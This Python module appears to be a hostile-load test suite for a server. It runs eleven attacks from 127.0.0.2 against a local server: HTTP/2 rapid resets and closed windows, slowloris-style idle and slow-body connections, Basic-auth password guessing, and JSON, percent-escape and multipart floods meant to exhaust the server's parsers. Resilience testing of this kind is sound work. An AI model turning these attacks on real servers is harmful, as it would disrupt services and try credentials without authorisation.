"""What one address can do: each attack runs in a process of its own until it is stopped.

``python -m tests.hostile.attacks NAME PORT CERTIFICATE SCALE`` runs one. Attacks come from 127.0.0.2; the
innocent client comes from 127.0.0.1.
"""

from __future__ import annotations

import ssl
import sys
from base64 import b64encode
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from functools import partial

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import trio

ADDRESS = "127.0.0.2"
AREAS = b"/genesys/1/storage/"
SETTINGS = b"/mobileservices/Storage/v1/runtime/application/app/global"
#: A file of 200 KB that the campaign puts there before.
LARGE = AREAS + b"binary/large/File"

BROKEN = (OSError, trio.BrokenResourceError, trio.ClosedResourceError)


class Target:
    """The server under attack, and how much of each attack there is to be (1: all of it)."""

    def __init__(self, port: int, certificate: str, scale: float) -> None:
        self.port = port
        self.scale = scale
        self.context = ssl.create_default_context(cafile=certificate)
        self.context.set_alpn_protocols(["h2", "http/1.1"])
        self.context.check_hostname = False

    def times(self, number: int) -> int:
        """That many at full scale."""
        return max(2, int(number * self.scale))

    @asynccontextmanager
    async def connected(self, *protocols: str) -> AsyncIterator[trio.SSLStream[trio.SocketStream]]:
        """A TLS connection from the attacker's address."""
        sock = trio.socket.socket()
        try:
            await sock.bind((ADDRESS, 0))
            await sock.connect(("127.0.0.1", self.port))
            context = ssl.create_default_context(cafile=None)
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(list(protocols) or ["http/1.1"])
            stream = trio.SSLStream(trio.SocketStream(sock), context, server_hostname="localhost")
            await stream.do_handshake()
            yield stream
        finally:
            sock.close()


class Http2:
    """HTTP/2 in the plain, with a window of one's choice."""

    def __init__(self, stream: trio.SSLStream[trio.SocketStream], window: int) -> None:
        self.stream = stream
        self._turn = trio.Lock()
        self.connection = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding=None))
        self.connection.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
        )
        self.connection.initiate_connection()

    async def get(self, path: bytes) -> int:
        """Ask; nobody waits for the answer."""
        number = self.connection.get_next_available_stream_id()
        self.connection.send_headers(
            number,
            [
                (b":method", b"GET"),
                (b":path", path),
                (b":scheme", b"https"),
                (b":authority", b"localhost"),
                (b"gms_user", b"u"),
            ],
            end_stream=True,
        )
        await self.flush()
        return number

    async def reset(self, number: int) -> None:
        """Give a stream up."""
        self.connection.reset_stream(number)
        await self.flush()

    async def flush(self) -> None:
        """Send what there is to send."""
        async with self._turn:
            await self.stream.send_all(self.connection.data_to_send())

    async def listen(self) -> None:
        """Read frames until the connection ends; never widens a window."""
        while data := await self.stream.receive_some(65536):
            self.connection.receive_data(data)
            await self.flush()


async def _tried(work: Callable[[], Awaitable[None]]) -> None:
    """Once more whenever the server ends it, like a patient attacker."""
    while True:
        try:
            await work()
        except* (*BROKEN, h2.exceptions.ProtocolError):
            pass
        await trio.sleep(0.05)


async def _each(number: int, work: Callable[[], Awaitable[None]]) -> None:
    async with trio.open_nursery() as nursery:
        for _ in range(number):
            nursery.start_soon(_tried, work)


async def closed_windows(target: Target) -> None:
    """Connections with a closed window, a hundred downloads on each."""

    async def hold() -> None:
        async with target.connected("h2") as stream:
            client = Http2(stream, window=0)
            await client.flush()
            async with trio.open_nursery() as nursery:
                nursery.start_soon(client.listen)
                for _ in range(100):
                    await client.get(LARGE)
                await trio.sleep(60)
                nursery.cancel_scope.cancel()

    await _each(target.times(23), hold)


async def resets(target: Target) -> None:
    """Connections in a row, 190 downloads given up on each as soon as they are asked for."""

    async def burst() -> None:
        async with target.connected("h2") as stream:
            client = Http2(stream, window=65535)
            for _ in range(190):
                await client.reset(await client.get(LARGE))

    await _each(target.times(8), burst)


async def slow_bodies(target: Target) -> None:
    """Forms of 9 MB, of which all but a little is sent at once, and the rest byte by byte."""

    async def form() -> None:
        async with target.connected() as stream:
            await stream.send_all(
                b"POST %b60 HTTP/1.1\r\nHost: localhost\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 9000000\r\n\r\na="
                % AREAS
            )
            for _ in range(137):
                await stream.send_all(b"x" * 65536)
            while True:
                await stream.send_all(b"x" * 1024)
                await trio.sleep(0.5)

    await _each(target.times(95), form)


async def slow_uploads(target: Target) -> None:
    """Files that come slowly from their second mebibyte on: each holds a descriptor of the server's."""

    async def upload() -> None:
        async with target.connected() as stream:
            await stream.send_all(
                b"POST %b60 HTTP/1.1\r\nHost: localhost\r\nContent-Type: multipart/form-data; boundary=b\r\n"
                b"Content-Length: 50000000\r\n\r\n--b\r\n"
                b"Content-Disposition: form-data; name=f; filename=f\r\n"
                b"Content-Type: application/octet-stream\r\n\r\n" % AREAS
            )
            for _ in range(24):
                await stream.send_all(b"x" * 65536)
            while True:
                await stream.send_all(b"x" * 1024)
                await trio.sleep(0.5)

    await _each(target.times(400), upload)


async def unread_downloads(target: Target) -> None:
    """Downloads that nobody reads."""

    async def hold() -> None:
        async with target.connected() as stream:
            await stream.send_all(b"GET %b HTTP/1.1\r\nHost: localhost\r\ngms_user: u\r\n\r\n" % LARGE * 20)
            await trio.sleep(60)

    await _each(target.times(1100), hold)


async def idle_connections(target: Target) -> None:
    """More connections than an address may have, each with half a head."""

    async def hold() -> None:
        async with target.connected() as stream:
            await stream.send_all(b"GET / HTTP/1.1\r\nHost: ")
            await trio.sleep(60)

    await _each(target.times(3000), hold)


async def logins(target: Target) -> None:
    """Wrong passwords, half of them for made-up names."""
    count = 0

    async def attempt() -> None:
        nonlocal count
        count += 1
        name = b"operator" if count % 2 else b"made-up-%d" % count
        credential = ssl.RAND_bytes(4).hex().encode()
        async with target.connected() as stream:
            await stream.send_all(
                b"GET %b HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic %b\r\nConnection: close\r\n\r\n"
                % (SETTINGS, b64encode(name + b":" + credential))
            )
            while await stream.receive_some(65536):
                pass

    await _each(target.times(200), attempt)


async def _posted(target: Target, path: bytes, kind: bytes, body: bytes, method: bytes = b"POST") -> None:
    async with target.connected() as stream:
        await stream.send_all(
            b"%b %b HTTP/1.1\r\nHost: localhost\r\nContent-Type: %b\r\nContent-Length: %d\r\n"
            b"Connection: close\r\n\r\n" % (method, path, kind, len(body))
        )
        await stream.send_all(body)
        while await stream.receive_some(65536):
            pass


async def many_names(target: Target) -> None:
    """Documents of 80,000 names."""
    names = target.times(80_000)
    body = b"{" + b",".join(b'"k%d":1' % number for number in range(names)) + b"}"
    await _each(2, partial(_posted, target, SETTINGS, b"application/json", body))


async def patches(target: Target) -> None:
    """JSON patches that move a large array back and forth."""
    array = b"[" + b",".join([b"1"] * target.times(500_000)) + b"]"
    with suppress(*BROKEN):  # refused before all of it was sent
        await _posted(target, SETTINGS, b"application/json", b'{"a":{"x":%b}}' % array)
    moves = b",".join(
        [b'{"op":"move","from":"/x","path":"/y"}', b'{"op":"move","from":"/y","path":"/x"}'] * 250
    )
    kind = b"application/json-patch+json"
    await _each(2, partial(_posted, target, SETTINGS + b"/a", kind, b"[" + moves + b"]", b"PATCH"))


async def percent_signs(target: Target) -> None:
    """Forms of nothing but escapes."""
    body = b"a=" + b"%41" * target.times(2_800_000)
    await _each(4, partial(_posted, target, AREAS + b"60", b"application/x-www-form-urlencoded", body))


async def near_boundaries(target: Target) -> None:
    """Multipart bodies of what nearly is a boundary."""
    head = b'--b\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\n'
    body = head + b"\r\n--a" * target.times(1_000_000) + b"\r\n--b--\r\n"
    await _each(4, partial(_posted, target, AREAS + b"60", b"multipart/form-data; boundary=b", body))


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        closed_windows,
        resets,
        slow_bodies,
        slow_uploads,
        unread_downloads,
        idle_connections,
        logins,
        many_names,
        patches,
        percent_signs,
        near_boundaries,
    )
}


def main(name: str, port: str, certificate: str, scale: str) -> None:
    """Attack until killed."""
    trio.run(ATTACKS[name], Target(int(port), certificate, float(scale)))


if __name__ == "__main__":
    main(*sys.argv[1:])
